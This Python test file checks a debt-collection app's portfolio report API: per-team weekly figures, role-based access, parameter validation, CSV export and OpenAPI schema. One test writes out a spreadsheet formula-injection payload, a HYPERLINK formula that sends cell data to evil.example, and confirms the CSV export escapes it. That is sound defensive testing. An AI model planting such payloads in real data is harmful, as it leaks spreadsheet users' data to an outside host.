"""The portfolio report: a small week in Shanghai whose every figure is worked out by hand,
who may read it, its bad parameters, its CSV and its place in the OpenAPI document."""

from datetime import UTC, date, datetime

import pytest
import sqlalchemy as sa

from tests.conftest import TEST_NOW

UTC = UTC
WEEK = "from=2026-06-01&to=2026-06-07"


def _at(text):
    """A Shanghai local time as UTC."""
    return datetime.fromisoformat(text + "+08:00").astimezone(UTC)


@pytest.fixture(scope="module")
def world(module_make, app):
    """Team A (Shanghai) over the week of 1–7 June 2026; team B elsewhere, with money of its own."""
    from app.models import (
        Case,
        Complaint,
        ConductFlag,
        ContactAttempt,
        LedgerEntry,
        RepaymentAgreement,
        Visit,
        VisitTask,
    )

    make = module_make
    clock = app.config["CLOCK"]
    clock.set(datetime(2026, 5, 20, 2, 0, tzinfo=UTC))  # the cases arrive before the week
    region = make.region(code="SH")
    from app.models import Team

    team_a = make._save(Team(code="TEAM-A", name="一队 <b>催收</b>", region_id=region.id))
    team_b = make.team(code="TEAM-B", region=make.region(code="BJ"))
    make.team(code="TEAM-C", region=region)  # no supervisor of team A's sees it
    crew = make.trained_crew(team_a)
    with app.app_context():
        from app.extensions import db

        members = [c.id for c in db.session.get(type(crew), crew.id).members]
    c1 = make.case(team=team_a, days_past_due=20, outstanding_minor=700_000)  # M1 at the start
    c2 = make.case(team=team_a, days_past_due=45, outstanding_minor=430_000)  # M2
    c3 = make.case(team=team_a, days_past_due=70, outstanding_minor=10_000, currency="USD")  # M3+
    b1 = make.case(team=team_b, days_past_due=10, outstanding_minor=90_000)
    late = make._save(Case(**{**_case_values(make, team_a), "created_at": _at("2026-06-03T09:00")}))

    def pay(case, amount, when, balance):
        return LedgerEntry(
            case_id=case.id,
            kind="payment",
            amount_minor=amount,
            delta_minor=-amount,
            balance_minor=balance,
            currency=case.currency,
            source="payment",
            created_at=when,
        )

    make._save(
        pay(c1, 100_000, _at("2026-06-03T15:00"), 700_000),
        pay(c2, 20_000, _at("2026-06-01T01:00"), 480_000),  # 31 May 17:00 UTC: inside the Shanghai week
        pay(c2, 50_000, _at("2026-06-08T00:30"), 430_000),  # after the week
        pay(b1, 10_000, _at("2026-06-02T12:00"), 90_000),
    )
    with app.app_context():  # c1 slips into M2 on 5 June
        from app.extensions import db

        clock.set(_at("2026-06-05T09:00"))
        db.session.get(Case, c1.id).days_past_due = 40
        db.session.commit()
        db.session.expunge_all()
    t1 = make._save(VisitTask(case_id=c1.id, visit_date=date(2026, 6, 2), status="done", crew_id=crew.id, priority=5))
    t2 = make._save(VisitTask(case_id=c2.id, visit_date=date(2026, 6, 2), status="done", crew_id=crew.id, priority=5))
    make._save(VisitTask(case_id=c3.id, visit_date=date(2026, 6, 3), status="assigned", crew_id=crew.id, priority=5))
    make._save(VisitTask(case_id=c2.id, visit_date=date(2026, 6, 9), status="assigned", crew_id=crew.id, priority=5))
    v1 = make._save(
        Visit(
            task_id=t1.id,
            crew_id=crew.id,
            collector_id=members[0],
            check_in_at=_at("2026-06-02T10:00"),
            check_out_at=_at("2026-06-02T10:30"),
            check_in_lat=31.2,
            check_in_lon=121.4,
            outcome="promise_to_pay",
            person_met="debtor",
        )
    )
    make._save(
        Visit(
            task_id=t2.id,
            crew_id=crew.id,
            collector_id=members[1],
            check_in_at=_at("2026-06-02T10:40"),
            check_out_at=_at("2026-06-02T10:50"),
            check_in_lat=31.2,
            check_in_lon=121.4,
            outcome="not_home",
            person_met="nobody",
        )
    )
    for status, when in (
        ("kept", "2026-06-02T10:20"),
        ("broken", "2026-06-03T11:00"),
        ("active", "2026-06-04T11:00"),
        ("pending_approval", "2026-06-04T12:00"),
        ("kept", "2026-05-30T12:00"),
    ):
        make._save(
            RepaymentAgreement(
                case_id=c1.id,
                visit_id=v1.id,
                kind="promise",
                status=status,
                currency="CNY",
                total_minor=1000,
                owed_minor=1000,
                created_at=_at(when),
            )
        )
    for result, when in (
        ("reached", "2026-06-01T09:00"),
        ("no_answer", "2026-06-02T09:00"),
        ("reached", "2026-06-07T23:00"),
        ("no_answer", "2026-06-06T09:00"),
        ("reached", "2026-06-08T09:00"),
    ):
        make._save(
            ContactAttempt(case_id=c2.id, channel="call", purpose="contact", result=result, occurred_at=_at(when))
        )
    make._save(
        ConductFlag(
            kind="hours",
            rule_id="cn.hours",
            profile_version="cn@2026.1",
            case_id=c1.id,
            collector_id=members[0],
            raised_at=_at("2026-06-02T10:05"),
        ),
        ConductFlag(
            kind="crew",
            rule_id="cn.two_person",
            profile_version="cn@2026.1",
            collector_id=members[1],
            raised_at=_at("2026-06-03T10:05"),
        ),
        Complaint(case_id=c2.id, channel="phone", category="rudeness", text="x", received_at=_at("2026-06-04T10:00")),
    )
    clock.set(TEST_NOW)
    users = {
        "supervisor": make.user("supervisor", team=team_a),
        "auditor": make.user("auditor"),
        "admin": make.user("admin"),
        "agent": make.user("agent"),
        "regional": make.user("supervisor", region=region),
    }
    return {"headers": {role: make.token(u) for role, u in users.items()}, "late": late.id}


def _case_values(make, team):
    debtor = make.debtor()
    return dict(
        loan_ref="LATE-1",
        debtor_id=debtor.id,
        team_id=team.id,
        product="cash_loan",
        currency="CNY",
        principal_minor=50_000,
        outstanding_minor=50_000,
        days_past_due=5,
        stage="notice",
    )


def _get(client, world, query, role="supervisor"):
    return client.get(f"/api/v1/reports/portfolio?{query}", headers=world["headers"][role])


def test_a_supervisor_reads_their_teams_week_figure_by_figure(client, world):
    response = _get(client, world, WEEK)
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert [g["key"] for g in body["groups"]] == ["TEAM-A"]
    a = body["groups"][0]
    assert a["label"] == "一队 <b>催收</b>"
    assert a["money"] == [
        {
            "currency": "CNY",
            "payments": 2,
            "recovered_minor": 120_000,
            "outstanding_at_start_minor": 1_300_000,
            "recovery_rate": round(120_000 / 1_300_000, 4),
        },
        {
            "currency": "USD",
            "payments": 0,
            "recovered_minor": 0,
            "outstanding_at_start_minor": 10_000,
            "recovery_rate": 0.0,
        },
    ]
    assert (a["promises_made"], a["promises_kept"], a["promises_broken"], a["promise_kept_rate"]) == (3, 1, 1, 0.5)
    assert (a["remote_attempts"], a["remote_debtor_met"], a["remote_contact_rate"]) == (4, 2, 0.5)
    assert (a["visits"], a["visits_debtor_met"], a["field_contact_rate"]) == (2, 1, 0.5)
    assert (a["crew_days"], a["visits_per_crew_day"]) == (2, 1.0)
    assert a["outcomes"] == [{"key": "not_home", "count": 1}, {"key": "promise_to_pay", "count": 1}]
    assert (a["door_visits_timed"], a["door_minutes_avg"]) == (2, 20.0)
    assert (a["flags"], a["flags_per_100_visits"]) == (2, 100.0)
    assert a["flags_by_rule"] == [
        {"key": "cn.hours", "count": 1, "per_100_visits": 50.0},
        {"key": "cn.two_person", "count": 1, "per_100_visits": 50.0},
    ]
    assert a["complaints"] == 1
    assert a["roll_rates"] == [
        {"from_bucket": "M1", "to_bucket": "M2", "cases": 1, "rate": 1.0},
        {"from_bucket": "M2", "to_bucket": "M2", "cases": 1, "rate": 1.0},
        {"from_bucket": "M3+", "to_bucket": "M3+", "cases": 1, "rate": 1.0},
    ]
    assert body["totals"]["key"] == "all" and body["totals"]["money"] == a["money"]
    assert body["strategy"] == "default@2026.2" and body["buckets"] == ["0", "M1", "M2", "M3+"]


def test_an_auditor_sees_every_team_and_money_is_never_summed_across_currencies(client, world):
    body = _get(client, world, WEEK, role="auditor").get_json()
    assert [g["key"] for g in body["groups"]] == ["TEAM-A", "TEAM-B", "TEAM-C"]
    b = body["groups"][1]
    assert b["money"] == [
        {
            "currency": "CNY",
            "payments": 1,
            "recovered_minor": 10_000,
            "outstanding_at_start_minor": 100_000,
            "recovery_rate": 0.1,
        }
    ]
    totals = {m["currency"]: m for m in body["totals"]["money"]}
    assert totals["CNY"]["recovered_minor"] == 130_000 and totals["USD"]["recovered_minor"] == 0


def test_grouped_by_dpd_bucket_the_cases_fall_in_their_bucket_at_the_start(client, world):
    body = _get(client, world, WEEK + "&group_by=dpd_bucket").get_json()
    by = {g["key"]: g for g in body["groups"]}
    assert list(by)[:4] == ["0", "M1", "M2", "M3+"]
    assert by["M1"]["visits"] == 1 and by["M2"]["visits"] == 1 and by["M1"]["promises_made"] == 3
    assert by["M1"]["money"][0]["recovered_minor"] == 100_000
    assert by["M1"]["roll_rates"] == [{"from_bucket": "M1", "to_bucket": "M2", "cases": 1, "rate": 1.0}]
    # A flag about no case, and the case that arrived mid-week, are not lost.
    assert by["none"]["flags"] == 1
    assert sum(g["flags"] for g in body["groups"]) == body["totals"]["flags"] == 2


def test_grouped_by_day_every_day_of_the_period_is_listed_in_local_time(client, world):
    body = _get(client, world, WEEK + "&group_by=day").get_json()
    assert [g["key"] for g in body["groups"]] == [f"2026-06-0{d}" for d in range(1, 8)]
    first = body["groups"][0]
    assert first["money"][0]["recovered_minor"] == 20_000  # paid at 01:00 Shanghai time, 31 May in UTC
    assert first["money"][0]["outstanding_at_start_minor"] == 1_300_000
    assert body["groups"][1]["visits"] == 2 and body["groups"][1]["crew_days"] == 1
    assert body["groups"][6]["remote_attempts"] == 1  # 23:00 on 7 June
    assert body["groups"][0]["roll_rates"] is None and body["totals"]["roll_rates"]


def test_grouped_by_crew_and_collector_money_does_not_apply(client, world):
    crews = _get(client, world, WEEK + "&group_by=crew").get_json()
    assert [g["key"] for g in crews["groups"]][1:] == ["none"]  # the complaint names no collector
    assert crews["groups"][1]["complaints"] == 1
    crew = crews["groups"][0]
    assert crew["money"] is None and crew["remote_attempts"] is None
    assert (crew["visits"], crew["crew_days"], crew["promises_made"]) == (2, 2, 3)
    collectors = _get(client, world, WEEK + "&group_by=collector").get_json()
    assert sorted(g["visits"] for g in collectors["groups"] if g["key"] != "none") == [1, 1]
    assert sum(g["flags"] for g in collectors["groups"]) == 2


def test_grouped_by_week_the_week_is_keyed_by_its_monday(client, world):
    body = _get(client, world, "from=2026-06-03&to=2026-06-09&group_by=week").get_json()
    assert [g["key"] for g in body["groups"]] == ["2026-06-01", "2026-06-08"]


@pytest.mark.parametrize("group_by", ["team", "crew", "dpd_bucket", "day"])
def test_a_team_with_nothing_in_the_period_reads_as_zeros(client, world, group_by):
    response = _get(client, world, WEEK + f"&team=TEAM-C&group_by={group_by}", role="admin")
    assert response.status_code == 200, response.get_json()
    totals = response.get_json()["totals"]
    assert (
        totals["promises_made"],
        totals["remote_attempts"],
        totals["visits"],
        totals["complaints"],
        totals["flags"],
        totals["crew_days"],
        totals["money"],
        totals["roll_rates"],
    ) == (0, 0, 0, 0, 0, 0, [], [])
    assert totals["promise_kept_rate"] is None and totals["door_minutes_avg"] is None


@pytest.mark.parametrize(
    "role, query, status, field",
    [
        ("agent", WEEK, 403, None),
        ("supervisor", WEEK + "&team=TEAM-B", 403, "team"),
        ("supervisor", WEEK + "&team=NO-SUCH", 403, "team"),
        ("supervisor", WEEK + "&region=SH", 403, "region"),
        ("regional", WEEK + "&region=BJ", 403, "region"),
        ("admin", WEEK + "&team=NO-SUCH", 422, "team"),
    ],
)
def test_a_team_or_region_outside_the_callers_scope_is_refused(client, world, role, query, status, field):
    response = _get(client, world, query, role=role)
    assert response.status_code == status
    if field:
        assert field in response.get_json()["error"]["fields"]


def test_a_regional_supervisor_reads_their_region(client, world):
    body = _get(client, world, WEEK + "&region=SH", role="regional").get_json()
    assert [g["key"] for g in body["groups"]] == ["TEAM-A", "TEAM-C"]
    assert body["groups"][1]["visits"] == 0 and body["groups"][1]["money"] == []
    body = _get(client, world, WEEK + "&group_by=region", role="auditor").get_json()
    assert [g["key"] for g in body["groups"]] == ["BJ", "SH"]


@pytest.mark.parametrize(
    "query, field",
    [
        ("from=2026-06-08&to=2026-06-01", "to"),
        (WEEK + "&group_by=planet", "group_by"),
        ("from=2025-01-01&to=2026-06-01", "to"),
        ("from=2026-01-01&to=2026-06-01&group_by=day", "to"),
        ("from=2026-02-30&to=2026-06-01", "from"),
        ("to=2026-06-01", "from"),
        (WEEK + "&format=xlsx", "format"),
        (WEEK + "&colour=red", "colour"),
    ],
)
def test_bad_parameters_are_refused_naming_the_field(client, world, query, field):
    response = _get(client, world, query, role="admin")
    assert response.status_code == 422
    assert field in response.get_json()["error"]["fields"]


def test_the_csv_opens_in_excel_with_chinese_names_and_money_as_decimals(client, world):
    response = _get(client, world, WEEK + "&format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    import csv
    import io

    lines = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [(line["key"], line["currency"]) for line in lines] == [
        ("TEAM-A", "CNY"),
        ("TEAM-A", "USD"),
        ("all", "CNY"),
        ("all", "USD"),
    ]
    assert lines[0]["label"] == "一队 <b>催收</b>"
    assert lines[0]["recovered"] == "1200.00" and lines[0]["recovered_minor"] == "120000"
    assert lines[0]["outcome:promise_to_pay"] == "1" and lines[0]["flags:cn.hours"] == "1"
    assert lines[0]["roll:M1>M2"] == "1.0"


def test_a_name_that_looks_like_a_formula_stays_text_when_the_csv_is_opened_in_a_spreadsheet(app, client, world):
    import csv
    import io

    from app.extensions import db
    from app.models import Team

    with app.app_context():
        team = db.session.scalars(sa.select(Team).where(Team.code == "TEAM-A")).one()
        team.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
        db.session.commit()
    response = _get(client, world, WEEK + "&format=csv")
    lines = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert lines[0]["label"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_the_report_is_described_in_the_openapi_document(client, world):
    spec = client.get("/api/v1/openapi.json").get_json()
    operation = spec["paths"]["/api/v1/reports/portfolio"]["get"]
    assert {p["name"] for p in operation["parameters"]} >= {"from", "to", "group_by", "team", "region", "format"}
    schemas = spec["components"]["schemas"]
    row = schemas["PortfolioRowOut"]["properties"]
    assert {"money", "promise_kept_rate", "flags_by_rule", "roll_rates", "door_minutes_avg"} <= set(row)
    money = schemas["MoneyLineOut"]["properties"]
    assert money["recovered_minor"]["type"] == "integer" and money["currency"]["type"] == "string"
    assert all("$ref" in p.get("items", {}) for p in (row["outcomes"], row["flags_by_rule"], row["roll_rates"]))
